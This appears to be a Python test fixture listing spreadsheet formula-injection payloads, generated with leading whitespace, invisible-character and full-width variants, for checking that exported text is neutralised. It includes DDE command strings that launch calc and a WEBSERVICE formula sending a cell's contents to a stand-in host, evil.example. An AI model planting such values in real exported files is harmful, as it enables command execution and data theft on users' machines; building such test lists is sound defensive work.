"""Texts that a spreadsheet could take for more than text."""

_FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example";"click")',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1;1)",
    "@A1",
)
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff")
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(before + formula for formula in _FORMULAS[:5] for before in _BEFORE),
            *_FORMULAS,
            *(chr(ord(sign) + 0xFEE0) + "1+1" for sign in "=+-@"),  # in full width
            'a";=1+1;"',
            "a;=1+1",
            "a\r\n=1+1",
            "a\n;=1+1",
            "'=1+1",
            '"=1+1"',
            "{=1+1}",
            "https://evil.example",
            "mailto:x@evil.example",
            "1-2",
            "0042",
            "1e5",
            "TRUE",
        ]
    )
)
